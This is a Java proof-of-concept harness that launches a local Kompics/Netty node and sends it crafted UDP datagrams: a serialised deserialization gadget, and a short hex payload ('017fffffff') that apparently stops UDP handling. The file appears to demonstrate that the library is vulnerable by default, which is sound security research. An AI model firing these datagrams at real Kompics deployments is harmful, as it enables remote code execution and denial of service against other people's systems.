package ebb.core.kompics;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.util.HexFormat;
import java.util.concurrent.TimeUnit;
import se.sics.kompics.network.Transport;
import se.sics.kompics.network.netty.serialization.Serializers;

/** A JVM of its own with Kompics as it comes, to show what the crafted datagrams do there. */
final class VulnerableByDefault {
  static final String GADGET_RAN = "the gadget ran";
  static final String UDP_ENDED = "UDP ended";

  private VulnerableByDefault() {}

  public static void main(String[] args) throws Exception {
    Serializers.register(PayloadMsg.class, new PayloadMsg.Serializer(18));
    NettyNode node = new NettyNode();
    NettyNode.datagram(node.address, Gadget.serialised());
    if (Gadget.RAN.await(30, TimeUnit.SECONDS)) {
      System.out.println(GADGET_RAN);
    }
    if (arrives(node, 100)) {
      NettyNode.datagram(node.address, HexFormat.of().parseHex("017fffffff"));
      if (!arrives(node, 10)) {
        System.out.println(UDP_ENDED);
      }
    }
    Runtime.getRuntime().halt(0);
  }

  private static boolean arrives(NettyNode node, int attempts) throws Exception {
    node.received.clear();
    for (int i = 0; i < attempts; i++) {
      ByteBuf out = Unpooled.buffer();
      EbbHeader header =
          new EbbHeader(EbbAddress.of(node.address.getIp(), 9), node.address, Transport.UDP);
      Serializers.toBinary(new PayloadMsg(header, i, new byte[0]), out);
      NettyNode.datagram(node.address, Gadget.bytesOf(out));
      PayloadMsg message = node.received.poll(200, TimeUnit.MILLISECONDS);
      // The first few may have been on their way before the attack was noticed.
      if (message != null && i > 2) {
        return true;
      }
    }
    return false;
  }
}
